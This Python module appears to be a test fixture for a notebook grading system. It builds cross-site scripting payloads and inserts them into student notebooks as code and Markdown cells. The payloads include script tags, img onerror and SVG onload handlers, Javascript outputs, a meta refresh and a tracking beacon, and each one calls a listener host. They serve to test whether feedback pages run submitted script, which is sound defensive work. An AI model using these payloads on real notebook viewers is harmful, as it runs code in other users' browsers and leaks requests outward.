"""Submissions that try to run JavaScript in the browser of whoever opens their feedback page.

Each payload, if it ran, would leave three traces: the page title becomes `PWNED <name>`, the root element
gets a `data-pwned-<name>` attribute, and a request for `/pwned/<name>` reaches the listener at `base`.
The ones in code cells need the notebook to be executed (graded) to produce their output.
"""
from __future__ import annotations

import json

from .notebooks import grade_id


def script(name: str, base: str) -> str:
    """The JavaScript of payload `name`, written with single quotes only (it goes into HTML attributes)."""
    return (f"document.title='PWNED {name}';document.documentElement.setAttribute('data-pwned-{name}','1');"
            f"fetch('{base}/pwned/{name}')")


def output_payloads(base: str) -> dict[str, str]:
    """name -> Python code whose output carries the payload."""
    js = {name: script(name, base) for name in ("html-script", "img-onerror", "markdown-output", "svg-repr-html",
                                                "svg-output", "javascript-output", "isolated-iframe")}
    html = "<b>bold</b><script>" + js["html-script"] + "</script>"
    img = '<img src="missing.png" onerror="' + js["img-onerror"] + '">'
    markdown = '**raw HTML in Markdown** <img src="x" onerror="' + js["markdown-output"] + '">'
    svg_html = '<svg width="10" height="10" onload="' + js["svg-repr-html"] + '"></svg>'
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="' + js["svg-output"] + '"><script>' + js["svg-output"]
           + "</script></svg>")
    isolated = "<script>" + js["isolated-iframe"] + "</script>"
    return {
        "html-script": f"display(HTML({html!r}))",
        "img-onerror": f"display(HTML({img!r}))",
        "markdown-output": f"display(Markdown({markdown!r}))",
        "svg-repr-html": f"class Picture:\n    def _repr_html_(self):\n        return {svg_html!r}\nPicture()",
        "svg-output": f"display(SVG({svg!r}))",
        "javascript-output": f"display(Javascript({js['javascript-output']!r}))",
        "isolated-iframe": f"display(HTML({isolated!r}), metadata={{'text/html': {{'isolated': True}}}})",
    }


def markdown_payloads(base: str) -> dict[str, str]:
    """name -> Markdown cell source carrying the payload (no execution needed)."""
    return {
        "markdown-cell-script": f"## My notes\n\n<script>{script('markdown-cell-script', base)}</script>\n",
        "markdown-cell-img": f"Look:\n\n<img src=\"x\" onerror=\"{script('markdown-cell-img', base)}\">\n",
        "markdown-cell-refresh": f"<meta http-equiv=\"refresh\" content=\"0; url={base}/pwned/markdown-cell-refresh\">\n",
        "markdown-cell-beacon": f"![tracker]({base}/pwned/markdown-cell-beacon)\n",
    }


def with_payloads(nb: dict, base: str, after: str = "tensor-init") -> dict:
    """A copy of `nb` with one added code cell per output payload and one Markdown cell per Markdown payload,
    right after the cell `after` (students may add cells anywhere)."""
    nb = json.loads(json.dumps(nb))
    cells = [{"cell_type": "code", "execution_count": None, "id": f"payload-{name}", "metadata": {}, "outputs": [],
              "source": "from IPython.display import HTML, SVG, Javascript, Markdown, display\n" + code}
             for name, code in output_payloads(base).items()]
    cells += [{"cell_type": "markdown", "id": f"payload-{name}", "metadata": {}, "source": text}
              for name, text in markdown_payloads(base).items()]
    at = next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == after) + 1
    nb["cells"][at:at] = cells
    return nb


def names(base: str = "") -> list[str]:
    return sorted([*output_payloads(base), *markdown_payloads(base)])
